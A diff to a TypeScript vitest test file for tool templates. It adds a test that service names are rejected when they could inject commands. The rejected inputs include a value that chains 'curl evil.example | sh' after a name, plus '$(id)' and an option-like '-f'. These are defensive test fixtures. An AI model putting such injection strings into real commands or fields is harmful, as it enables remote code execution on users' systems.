@@ -1,6 +1,6 @@
 import { readTemplates } from "@bulkhead/tools/templates";
 import { expect, test } from "vitest";
-import { templateFiles } from "./template-files.ts";
+import { templateFiles, templateServices } from "./template-files.ts";
 
 const WHOLE = { "manifest.json": '{"name":"sales"}', "tool.js": "return 1;" };
 
@@ -9,6 +9,12 @@ test("every template that comes with the product is a folder as it stands", () =
     const { "package.json": _packages, ...there } = files;
     expect(Object.fromEntries(templateFiles({ files }, name).files)).toEqual(there);
   }
+});
+
+test("a service's name is no more than one in a command", () => {
+  for (const template of readTemplates()) expect(templateServices(template)).toEqual(template.services);
+  for (const service of ["github; curl evil.example | sh", "$(id)", "-f", "a\nb", ""])
+    expect(() => templateServices({ services: ["github", service] })).toThrow("nothing of it was written");
 });
 
 test("the tool gets the name that was said, and keeps what else its manifest holds", () => {
